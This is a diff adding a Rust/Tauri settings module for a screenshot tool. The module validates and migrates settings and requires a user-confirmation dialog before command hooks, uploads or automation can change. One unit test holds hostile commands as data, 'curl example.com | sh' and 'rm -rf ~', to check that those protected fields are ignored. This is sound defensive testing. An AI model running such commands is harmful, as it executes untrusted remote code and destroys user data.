@@ -0,0 +1,742 @@
+use crate::actions::{Action, ActionChains};
+use crate::automation::AutomationSettings;
+use crate::encode;
+use crate::filename;
+use crate::hooks::CommandHook;
+use crate::hotkeys::HotkeyBindings;
+use crate::logging::{self, LogSettings};
+use crate::notifications::NotificationSettings;
+use crate::upload::UploadSettings;
+use crate::warm;
+use log::{error, info, warn};
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use std::fs;
+use std::path::PathBuf;
+use std::sync::Mutex;
+use tauri::{command, AppHandle, Manager, State};
+use tauri_plugin_dialog::{DialogExt, MessageDialogButtons, MessageDialogKind};
+
+/// 当前设置文件的结构版本，修改 `Settings` 的字段含义时需要递增并补充迁移
+pub const SETTINGS_VERSION: u64 = 2;
+
+/// 编码线程数的上限
+const MAX_ENCODE_THREADS: usize = 256;
+
+/// 用户设置，保存在应用配置目录下的 settings.json 中
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct Settings {
+    pub version: u64,
+    /// 截图保存目录，`None` 时使用 图片目录/screenshots
+    pub save_dir: Option<PathBuf>,
+    /// 除截图目录外，允许 `save_screenshot` 通过绝对路径写入的目录
+    pub allowed_save_dirs: Vec<PathBuf>,
+    /// 保存截图时的 JPEG 质量 (1-100)
+    pub jpeg_quality: u8,
+    /// 文件名模板，语法见 `filename::FilenameContext`
+    pub filename_template: String,
+    /// 模板中 `{counter}` 的当前值
+    pub filename_counter: u64,
+    /// 日志级别：off/error/warn/info/debug/trace，可以用 `模块=级别` 单独设置模块，
+    /// 如 `info,xcap=warn`；设置了 `RUST_LOG` 环境变量时以它为准
+    pub log_level: String,
+    /// 日志文件的轮转和输出格式
+    pub logging: LogSettings,
+    /// 为 true 时保存截图不写入任何元数据，并移除图像中已有的元数据
+    pub strip_metadata: bool,
+    /// 缩略图缓存的大小上限（MB）
+    pub thumbnail_cache_mb: u64,
+    pub hotkeys: HotkeyBindings,
+    /// 本地自动化接口，重启后生效
+    pub automation: AutomationSettings,
+    /// 上传目标
+    pub uploads: UploadSettings,
+    /// 各截图方式截图后依次执行的动作
+    pub actions: ActionChains,
+    /// 每次保存截图后按顺序运行的命令
+    pub hooks: Vec<CommandHook>,
+    /// 截图完成或失败时的系统通知
+    pub notifications: NotificationSettings,
+    /// 图像编码使用的线程数，0 表示使用全部 CPU 核心
+    pub encode_threads: usize,
+    /// 在截图之间保持截图后端的连接并预分配帧缓冲，缩短截图延迟（目前只支持 X11）
+    pub warm_capture: bool,
+    /// Wayland 下屏幕共享门户返回的恢复令牌，用于跳过再次授权，由程序自动维护
+    pub portal_restore_token: Option<String>,
+}
+
+impl Default for Settings {
+    fn default() -> Self {
+        Self {
+            version: SETTINGS_VERSION,
+            save_dir: None,
+            allowed_save_dirs: Vec::new(),
+            jpeg_quality: 100,
+            filename_template: filename::DEFAULT_TEMPLATE.to_string(),
+            filename_counter: 0,
+            log_level: "info".to_string(),
+            logging: LogSettings::default(),
+            strip_metadata: false,
+            thumbnail_cache_mb: 200,
+            hotkeys: HotkeyBindings::default(),
+            automation: AutomationSettings::default(),
+            uploads: UploadSettings::default(),
+            actions: ActionChains::default(),
+            hooks: Vec::new(),
+            notifications: NotificationSettings::default(),
+            encode_threads: 0,
+            warm_capture: false,
+            portal_restore_token: None,
+        }
+    }
+}
+
+/// 单个字段的校验错误
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct FieldError {
+    pub field: &'static str,
+    pub message: String,
+}
+
+impl FieldError {
+    fn new(field: &'static str, message: impl Into<String>) -> Self {
+        Self {
+            field,
+            message: message.into(),
+        }
+    }
+}
+
+impl Settings {
+    /// 校验所有字段，返回每个不合法字段的错误信息
+    pub fn validate(&self) -> Vec<FieldError> {
+        let mut errors = Vec::new();
+
+        if let Some(save_dir) = &self.save_dir {
+            if !save_dir.is_absolute() {
+                errors.push(FieldError::new("save_dir", "保存目录必须是绝对路径"));
+            } else if save_dir.exists() && !save_dir.is_dir() {
+                errors.push(FieldError::new("save_dir", "保存目录不是文件夹"));
+            }
+        }
+
+        if self.allowed_save_dirs.iter().any(|dir| !dir.is_absolute()) {
+            errors.push(FieldError::new(
+                "allowed_save_dirs",
+                "允许的目录必须是绝对路径",
+            ));
+        }
+
+        if !(1..=100).contains(&self.jpeg_quality) {
+            errors.push(FieldError::new(
+                "jpeg_quality",
+                "JPEG 质量必须在 1 到 100 之间",
+            ));
+        }
+
+        if let Err(e) = filename::validate_template(&self.filename_template) {
+            errors.push(FieldError::new("filename_template", e));
+        }
+
+        if let Err(e) = logging::parse_filters(&self.log_level) {
+            errors.push(FieldError::new("log_level", e));
+        }
+
+        if let Err(e) = self.logging.validate() {
+            errors.push(FieldError::new("logging", e));
+        }
+
+        if self.thumbnail_cache_mb == 0 {
+            errors.push(FieldError::new(
+                "thumbnail_cache_mb",
+                "缩略图缓存大小必须大于 0",
+            ));
+        }
+
+        if let Err(e) = self.automation.validate_token() {
+            errors.push(FieldError::new("automation", e));
+        }
+
+        if let Err(e) = self.uploads.validate() {
+            errors.push(FieldError::new("uploads", e));
+        }
+
+        let sinks: Vec<&str> = self
+            .uploads
+            .sinks
+            .iter()
+            .map(|sink| sink.name.as_str())
+            .collect();
+        if let Err(e) = self.actions.validate(&sinks) {
+            errors.push(FieldError::new("actions", e));
+        }
+
+        if let Some(e) = self.hooks.iter().find_map(|hook| hook.validate().err()) {
+            errors.push(FieldError::new("hooks", e));
+        }
+
+        if self.encode_threads > MAX_ENCODE_THREADS {
+            errors.push(FieldError::new(
+                "encode_threads",
+                format!("编码线程数不能超过 {}", MAX_ENCODE_THREADS),
+            ));
+        }
+
+        errors
+    }
+}
+
+/// 托管在 Tauri 中的设置状态
+pub struct SettingsState(Mutex<Settings>);
+
+impl SettingsState {
+    pub fn get(&self) -> Settings {
+        self.0.lock().unwrap().clone()
+    }
+
+    /// 修改设置并写入文件
+    pub fn update<F: FnOnce(&mut Settings)>(&self, f: F) -> Result<Settings, String> {
+        let mut settings = self.0.lock().unwrap();
+        let mut updated = settings.clone();
+        f(&mut updated);
+        save(&updated)?;
+        *settings = updated;
+        Ok(settings.clone())
+    }
+}
+
+/// 从 AppHandle 读取当前设置
+pub fn current(app: &AppHandle) -> Settings {
+    app.state::<SettingsState>().get()
+}
+
+fn get_settings_path() -> Option<PathBuf> {
+    crate::get_app_config_dir().map(|dir| dir.join("settings.json"))
+}
+
+/// 旧版本单独保存快捷键的文件，迁移到 settings.json 后删除
+fn get_legacy_hotkeys_path() -> Option<PathBuf> {
+    crate::get_app_config_dir().map(|dir| dir.join("hotkeys.json"))
+}
+
+/// 将旧版本的设置数据逐步迁移到当前版本
+fn migrate(mut value: Value) -> Value {
+    if !value.is_object() {
+        value = Value::Object(Default::default());
+    }
+    let version = value.get("version").and_then(Value::as_u64).unwrap_or(0);
+
+    if version < 1 {
+        // v0 -> v1: 快捷键从 hotkeys.json 合并到 settings.json
+        if value.get("hotkeys").is_none() {
+            if let Some(hotkeys) = get_legacy_hotkeys_path()
+                .and_then(|path| fs::read_to_string(path).ok())
+                .and_then(|content| serde_json::from_str::<Value>(&content).ok())
+            {
+                info!("迁移旧版快捷键配置到 settings.json");
+                value["hotkeys"] = hotkeys;
+            }
+        }
+    }
+
+    if version < 2 {
+        // v1 -> v2: chrono 格式的 filename_pattern 改为 filename_template
+        if let Some(pattern) = value
+            .as_object_mut()
+            .and_then(|object| object.remove("filename_pattern"))
+            .and_then(|pattern| pattern.as_str().map(str::to_string))
+        {
+            let template = if pattern == "screenshot_%Y%m%d_%H%M%S" {
+                filename::DEFAULT_TEMPLATE.to_string()
+            } else {
+                format!("{{date:{}}}.{{ext}}", pattern)
+            };
+            info!("迁移文件名格式 {} 为模板 {}", pattern, template);
+            value["filename_template"] = Value::from(template);
+        }
+    }
+
+    value["version"] = Value::from(SETTINGS_VERSION);
+    value
+}
+
+/// 逐个字段反序列化设置，类型不正确的字段使用默认值，返回设置和无效的字段名
+fn deserialize_lenient(value: Value) -> (Settings, Vec<String>) {
+    if let Ok(settings) = serde_json::from_value::<Settings>(value.clone()) {
+        return (settings, Vec::new());
+    }
+
+    let mut merged = serde_json::to_value(Settings::default()).unwrap_or_default();
+    let mut invalid = Vec::new();
+    if let Value::Object(fields) = value {
+        for (key, field) in fields {
+            let mut candidate = merged.clone();
+            candidate[key.as_str()] = field;
+            if serde_json::from_value::<Settings>(candidate.clone()).is_ok() {
+                merged = candidate;
+            } else {
+                invalid.push(key);
+            }
+        }
+    }
+    let settings = serde_json::from_value(merged).unwrap_or_default();
+    (settings, invalid)
+}
+
+/// 加载设置，文件不存在时使用默认值；文件损坏时备份后使用默认值，个别字段无效时只重置这些字段
+pub fn load() -> Settings {
+    let Some(path) = get_settings_path() else {
+        return Settings::default();
+    };
+
+    let raw = match fs::read_to_string(&path) {
+        Ok(content) => match serde_json::from_str::<Value>(&content) {
+            Ok(value) => value,
+            Err(e) => {
+                warn!("设置文件解析失败，使用默认设置: {:?}, {}", path, e);
+                let _ = fs::rename(&path, path.with_extension("json.bak"));
+                return Settings::default();
+            }
+        },
+        Err(_) => Value::Object(Default::default()),
+    };
+
+    let version = raw.get("version").and_then(Value::as_u64).unwrap_or(0);
+    if version > SETTINGS_VERSION {
+        warn!(
+            "设置文件版本 {} 高于当前支持的版本 {}，未知字段将被忽略",
+            version, SETTINGS_VERSION
+        );
+    }
+
+    let migrated = version < SETTINGS_VERSION;
+    let (mut settings, invalid) = deserialize_lenient(migrate(raw));
+    if !invalid.is_empty() {
+        // 保存时会覆盖原文件，先备份，避免丢失无效字段中的内容
+        warn!("设置字段类型不正确，已使用默认值: {:?}", invalid);
+        if let Err(e) = fs::copy(&path, path.with_extension("json.bak")) {
+            error!("备份设置文件失败: {}", e);
+        }
+    }
+
+    let errors = settings.validate();
+    if !errors.is_empty() {
+        warn!("设置校验失败，已重置无效字段: {:?}", errors);
+        let defaults = Settings::default();
+        for error in &errors {
+            match error.field {
+                "save_dir" => settings.save_dir = defaults.save_dir.clone(),
+                "allowed_save_dirs" => {
+                    settings.allowed_save_dirs = defaults.allowed_save_dirs.clone()
+                }
+                "jpeg_quality" => settings.jpeg_quality = defaults.jpeg_quality,
+                "filename_template" => {
+                    settings.filename_template = defaults.filename_template.clone()
+                }
+                "log_level" => settings.log_level = defaults.log_level.clone(),
+                "logging" => settings.logging = defaults.logging.clone(),
+                "thumbnail_cache_mb" => settings.thumbnail_cache_mb = defaults.thumbnail_cache_mb,
+                "automation" => settings.automation = defaults.automation.clone(),
+                "uploads" => settings.uploads = defaults.uploads.clone(),
+                "actions" => settings.actions = defaults.actions.clone(),
+                "hooks" => settings.hooks = defaults.hooks.clone(),
+                "encode_threads" => settings.encode_threads = defaults.encode_threads,
+                _ => {}
+            }
+        }
+    }
+
+    if migrated {
+        match save(&settings) {
+            Ok(()) => {
+                if let Some(legacy) = get_legacy_hotkeys_path().filter(|p| p.exists()) {
+                    let _ = fs::remove_file(legacy);
+                }
+            }
+            Err(e) => error!("保存迁移后的设置失败: {}", e),
+        }
+    }
+
+    settings
+}
+
+/// 先写入临时文件再重命名，避免写入中途崩溃导致设置文件损坏
+pub fn save(settings: &Settings) -> Result<(), String> {
+    let path = get_settings_path().ok_or("无法获取配置目录".to_string())?;
+    let content = serde_json::to_string_pretty(settings).map_err(|e| e.to_string())?;
+
+    let tmp_path = path.with_extension("json.tmp");
+    fs::write(&tmp_path, content)
+        .and_then(|_| fs::rename(&tmp_path, &path))
+        .map_err(|e| {
+            error!("保存设置失败: {}", e);
+            format!("保存设置失败: {}", e)
+        })?;
+    info!("设置已保存: {:?}", path);
+    Ok(())
+}
+
+/// 将设置注册为托管状态
+pub fn manage(app: &AppHandle, settings: Settings) {
+    app.manage(SettingsState(Mutex::new(settings)));
+}
+
+/// 获取当前设置
+#[command]
+pub fn get_settings(state: State<'_, SettingsState>) -> Settings {
+    state.get()
+}
+
+/// 合并网页端提交的设置：需要单独修改的字段保留当前值
+///
+/// 快捷键需要重新注册；截图目录和允许写入的目录同时决定了可以写入和上传哪些文件，只能通过系统的目录选择框修改；
+/// 钩子、动作链中的命令、上传目标和自动化接口可以运行任意命令、把截图发送出去或开放控制接口，
+/// 必须经过用户确认；恢复令牌由程序维护。这些字段都不能通过 `update_settings` 修改。
+fn merge_editable(current: &Settings, settings: Settings) -> Settings {
+    Settings {
+        version: SETTINGS_VERSION,
+        hotkeys: current.hotkeys.clone(),
+        save_dir: current.save_dir.clone(),
+        allowed_save_dirs: current.allowed_save_dirs.clone(),
+        uploads: current.uploads.clone(),
+        hooks: current.hooks.clone(),
+        actions: current.actions.clone(),
+        automation: current.automation.clone(),
+        portal_restore_token: current.portal_restore_token.clone(),
+        ..settings
+    }
+}
+
+/// 更新设置，校验失败时返回每个字段的错误信息
+///
+/// 快捷键请通过 `rebind_hotkey` 修改；截图目录、允许写入的目录、钩子、动作链、上传设置和自动化接口
+/// 请通过各自的命令修改，此处传入的这些字段会被忽略。
+#[command]
+pub fn update_settings(
+    state: State<'_, SettingsState>,
+    settings: Settings,
+) -> Result<Settings, Vec<FieldError>> {
+    info!("更新设置: {:?}", settings);
+
+    let previous = state.get();
+    let errors = merge_editable(&previous, settings.clone()).validate();
+    if !errors.is_empty() {
+        error!("设置校验失败: {:?}", errors);
+        return Err(errors);
+    }
+
+    let updated = state
+        .update(|current| *current = merge_editable(current, settings))
+        .map_err(|e| vec![FieldError::new("settings", e)])?;
+    encode::configure(updated.encode_threads);
+    warm::configure(updated.warm_capture);
+    if updated.log_level != previous.log_level || updated.logging != previous.logging {
+        logging::apply(&updated);
+    }
+    Ok(updated)
+}
+
+/// 弹出系统确认对话框，网页中的脚本无法代替用户确认
+fn confirm(app: &AppHandle, title: &str, message: String) -> bool {
+    app.dialog()
+        .message(message)
+        .title(title)
+        .kind(MessageDialogKind::Warning)
+        .buttons(MessageDialogButtons::OkCancelCustom(
+            "允许".to_string(),
+            "取消".to_string(),
+        ))
+        .blocking_show()
+}
+
+/// 修改需要用户确认的设置：校验通过且与当前值不同时弹出确认对话框，确认后保存
+fn update_confirmed(
+    app: &AppHandle,
+    title: &str,
+    message: String,
+    apply: impl Fn(&mut Settings),
+) -> Result<Settings, Vec<FieldError>> {
+    let state = app.state::<SettingsState>();
+    let current = state.get();
+    let mut updated = current.clone();
+    apply(&mut updated);
+    if updated == current {
+        return Ok(current);
+    }
+
+    let errors = updated.validate();
+    if !errors.is_empty() {
+        error!("设置校验失败: {:?}", errors);
+        return Err(errors);
+    }
+
+    if !confirm(app, title, message) {
+        info!("用户拒绝了设置修改: {}", title);
+        return Err(vec![FieldError::new("settings", "用户取消了修改")]);
+    }
+    state
+        .update(apply)
+        .map_err(|e| vec![FieldError::new("settings", e)])
+}
+
+/// 通过系统的目录选择框添加允许写入的目录，用户取消时返回当前设置
+#[command]
+pub async fn add_allowed_save_dir(app: AppHandle) -> Result<Settings, Vec<FieldError>> {
+    let state = app.state::<SettingsState>();
+    let Some(picked) = app
+        .dialog()
+        .file()
+        .set_title("选择允许保存截图的目录")
+        .blocking_pick_folder()
+    else {
+        return Ok(state.get());
+    };
+    let dir = picked
+        .into_path()
+        .map_err(|e| vec![FieldError::new("allowed_save_dirs", e.to_string())])?;
+
+    info!("添加允许写入的目录: {:?}", dir);
+    state
+        .update(|settings| {
+            if !settings.allowed_save_dirs.contains(&dir) {
+                settings.allowed_save_dirs.push(dir);
+            }
+        })
+        .map_err(|e| vec![FieldError::new("settings", e)])
+}
+
+/// 通过系统的目录选择框修改截图目录，用户取消时返回当前设置
+#[command]
+pub async fn pick_save_dir(app: AppHandle) -> Result<Settings, Vec<FieldError>> {
+    let state = app.state::<SettingsState>();
+    let Some(picked) = app
+        .dialog()
+        .file()
+        .set_title("选择截图保存目录")
+        .blocking_pick_folder()
+    else {
+        return Ok(state.get());
+    };
+    let dir = picked
+        .into_path()
+        .map_err(|e| vec![FieldError::new("save_dir", e.to_string())])?;
+
+    info!("修改截图目录: {:?}", dir);
+    state
+        .update(|settings| settings.save_dir = Some(dir))
+        .map_err(|e| vec![FieldError::new("settings", e)])
+}
+
+/// 移除允许写入的目录，只会缩小范围，不需要确认
+#[command]
+pub fn remove_allowed_save_dir(
+    state: State<'_, SettingsState>,
+    dir: PathBuf,
+) -> Result<Settings, Vec<FieldError>> {
+    info!("移除允许写入的目录: {:?}", dir);
+    state
+        .update(|settings| settings.allowed_save_dirs.retain(|allowed| *allowed != dir))
+        .map_err(|e| vec![FieldError::new("settings", e)])
+}
+
+/// 修改截图后运行的命令钩子，需要用户确认
+#[command]
+pub async fn update_command_hooks(
+    app: AppHandle,
+    hooks: Vec<CommandHook>,
+) -> Result<Settings, Vec<FieldError>> {
+    let commands: Vec<String> = hooks
+        .iter()
+        .filter(|hook| hook.enabled)
+        .map(|hook| format!("{}: {}", hook.name, hook.command))
+        .collect();
+    let message = format!(
+        "每次保存截图后将运行以下命令：\n\n{}\n\n只有在你自己配置了这些命令时才允许。",
+        commands.join("\n")
+    );
+    update_confirmed(&app, "确认修改命令钩子", message, |settings| {
+        settings.hooks = hooks.clone()
+    })
+}
+
+/// 修改截图后的动作链，包含运行命令的动作，需要用户确认
+#[command]
+pub async fn update_action_chains(
+    app: AppHandle,
+    actions: ActionChains,
+) -> Result<Settings, Vec<FieldError>> {
+    let commands: Vec<String> = [
+        &actions.full_screen,
+        &actions.region,
+        &actions.active_window,
+    ]
+    .into_iter()
+    .flatten()
+    .filter_map(|action| match action {
+        Action::RunCommand { command } => Some(command.clone()),
+        _ => None,
+    })
+    .collect();
+    let message = if commands.is_empty() {
+        "将修改截图后执行的动作。".to_string()
+    } else {
+        format!(
+            "截图后将运行以下命令：\n\n{}\n\n只有在你自己配置了这些命令时才允许。",
+            commands.join("\n")
+        )
+    };
+    update_confirmed(&app, "确认修改截图动作", message, |settings| {
+        settings.actions = actions.clone()
+    })
+}
+
+/// 修改上传目标和自动上传，需要用户确认
+#[command]
+pub async fn update_upload_settings(
+    app: AppHandle,
+    uploads: UploadSettings,
+) -> Result<Settings, Vec<FieldError>> {
+    let sinks: Vec<String> = uploads
+        .sinks
+        .iter()
+        .map(|sink| format!("{}: {}", sink.name, sink.kind.destination()))
+        .collect();
+    let auto_upload = if uploads.auto_upload {
+        "每次保存截图后都会自动上传到默认目标。"
+    } else {
+        "只在手动上传或动作链中上传。"
+    };
+    let message = if sinks.is_empty() {
+        "将移除所有上传目标。".to_string()
+    } else {
+        format!(
+            "截图将可以上传到以下地址：\n\n{}\n\n{}只有在你自己配置了这些目标时才允许。",
+            sinks.join("\n"),
+            auto_upload
+        )
+    };
+    update_confirmed(&app, "确认修改上传设置", message, |settings| {
+        settings.uploads = uploads.clone()
+    })
+}
+
+/// 修改本地自动化接口设置，需要用户确认，重启后生效
+#[command]
+pub async fn update_automation_settings(
+    app: AppHandle,
+    automation: AutomationSettings,
+) -> Result<Settings, Vec<FieldError>> {
+    let message = if automation.enabled {
+        format!(
+            "将开启本地自动化接口（{:?}），其他程序可以通过它截图和读取截图。",
+            automation.transport
+        )
+    } else {
+        "将关闭本地自动化接口。".to_string()
+    };
+    update_confirmed(&app, "确认修改自动化接口", message, |settings| {
+        settings.automation = automation.clone()
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_default_settings_are_valid() {
+        assert!(Settings::default().validate().is_empty());
+    }
+
+    #[test]
+    fn test_validate_reports_each_field() {
+        let settings = Settings {
+            save_dir: Some(PathBuf::from("relative/dir")),
+            jpeg_quality: 0,
+            filename_template: "shot_{unknown}".to_string(),
+            log_level: "verbose".to_string(),
+            ..Settings::default()
+        };
+
+        let fields: Vec<&str> = settings.validate().iter().map(|e| e.field).collect();
+        assert_eq!(
+            fields,
+            vec!["save_dir", "jpeg_quality", "filename_template", "log_level"]
+        );
+    }
+
+    #[test]
+    fn test_migrate_filename_pattern_to_template() {
+        let migrated = migrate(serde_json::json!({
+            "version": 1,
+            "filename_pattern": "shot_%Y-%m-%d"
+        }));
+        let settings: Settings = serde_json::from_value(migrated).unwrap();
+        assert_eq!(settings.filename_template, "{date:shot_%Y-%m-%d}.{ext}");
+        assert!(settings.validate().is_empty());
+    }
+
+    #[test]
+    fn test_migrate_sets_current_version() {
+        let migrated = migrate(serde_json::json!({ "jpeg_quality": 80 }));
+        assert_eq!(migrated["version"], SETTINGS_VERSION);
+
+        let settings: Settings = serde_json::from_value(migrated).unwrap();
+        assert_eq!(settings.jpeg_quality, 80);
+        assert_eq!(settings.log_level, "info");
+    }
+
+    #[test]
+    fn test_update_settings_ignores_protected_fields() {
+        let current = Settings::default();
+        let submitted = Settings {
+            jpeg_quality: 80,
+            allowed_save_dirs: vec![PathBuf::from("/")],
+            hooks: vec![CommandHook {
+                name: "evil".to_string(),
+                command: "curl example.com | sh".to_string(),
+                ..CommandHook::default()
+            }],
+            actions: ActionChains {
+                region: vec![Action::RunCommand {
+                    command: "rm -rf ~".to_string(),
+                }],
+                ..ActionChains::default()
+            },
+            automation: AutomationSettings {
+                enabled: true,
+                ..AutomationSettings::default()
+            },
+            save_dir: Some(PathBuf::from("/")),
+            uploads: UploadSettings {
+                auto_upload: true,
+                ..UploadSettings::default()
+            },
+            ..Settings::default()
+        };
+
+        let merged = merge_editable(&current, submitted);
+        assert_eq!(merged.jpeg_quality, 80);
+        assert_eq!(merged.save_dir, current.save_dir);
+        assert_eq!(merged.uploads, current.uploads);
+        assert_eq!(merged.allowed_save_dirs, current.allowed_save_dirs);
+        assert_eq!(merged.hooks, current.hooks);
+        assert_eq!(merged.actions, current.actions);
+        assert_eq!(merged.automation, current.automation);
+    }
+
+    #[test]
+    fn test_invalid_field_keeps_other_settings() {
+        let (settings, invalid) = deserialize_lenient(serde_json::json!({
+            "version": SETTINGS_VERSION,
+            "jpeg_quality": 80,
+            "filename_template": "shot_{counter}.{ext}",
+            "hooks": [{ "name": "optimize", "timeout_secs": "soon" }],
+        }));
+        assert_eq!(invalid, vec!["hooks"]);
+        assert_eq!(settings.jpeg_quality, 80);
+        assert_eq!(settings.filename_template, "shot_{counter}.{ext}");
+        assert!(settings.hooks.is_empty());
+    }
+}